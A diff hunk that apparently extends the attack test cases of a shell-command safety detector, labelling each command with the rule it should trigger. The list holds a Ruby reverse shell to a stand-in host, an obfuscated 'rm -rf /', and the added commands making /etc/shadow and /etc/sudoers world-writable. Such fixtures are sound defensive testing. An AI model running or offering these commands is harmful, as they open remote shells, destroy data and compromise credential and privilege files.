@@ -139,6 +139,7 @@ ATTACKS: list[tuple[str, str]] = [
     ("ruby -rsocket -e'f=TCPSocket.open(\"1.2.3.4\",4444).to_i;exec sprintf(\"/bin/sh -i <&%d >&%d 2>&%d\",f,f,f)'",
      "reverse_shell"),
     ("eval eval eval eval eval eval rm -rf /", "rm_root"),
+    ("chmod 666 /etc/shadow", "chmod_world_writable_system"), ("chmod o+w /etc/sudoers", "chmod_world_writable_system"),
 ]
 
 # Decoys: each is close to a rule and must not trigger any finding at all.
